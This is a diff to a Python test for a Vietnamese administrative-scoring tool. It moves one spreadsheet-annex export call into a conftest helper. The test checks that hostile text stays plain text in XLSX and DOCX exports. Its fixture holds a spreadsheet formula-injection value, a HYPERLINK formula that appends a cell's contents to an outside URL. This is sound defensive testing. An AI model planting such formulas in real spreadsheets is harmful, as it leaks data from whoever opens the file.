@@ -16,6 +16,8 @@ from cchc import celltext, validation
 from cchc.publish import data
 from cchc.score import results as results_mod
 
+from .conftest import export_annex
+
 YEAR = 2025
 NAME = '=HYPERLINK("https://vi.du/?"&A1,"Sở Nội vụ")'
 APPROVER = "@Vũ Hồng Dũng, Giám đốc"
@@ -71,21 +73,7 @@ def test_texts_stay_text_in_exports_and_downloads(province, tmp_path, cchc):
     _hostile(province)
     results = results_mod.compute(validation.validate(province).repo)
     assert cchc("export", "unit", "--year", YEAR, "--unit", "so-noi-vu", "--out", tmp_path, "--root", province)[0] == 0
-    assert (
-        cchc(
-            "export",
-            "annex",
-            "--year",
-            YEAR,
-            "--out",
-            tmp_path / "pl.xlsx",
-            "--out",
-            tmp_path / "pl.docx",
-            "--root",
-            province,
-        )[0]
-        == 0
-    )
+    assert export_annex(cchc, province, YEAR, tmp_path / "pl.xlsx", tmp_path / "pl.docx") == 0
     unit = (tmp_path / f"bang-tong-hop-{YEAR}-so-noi-vu.xlsx").read_bytes()
     annex = (tmp_path / "pl.xlsx").read_bytes()
     public = data.to_xlsx(results, YEAR)
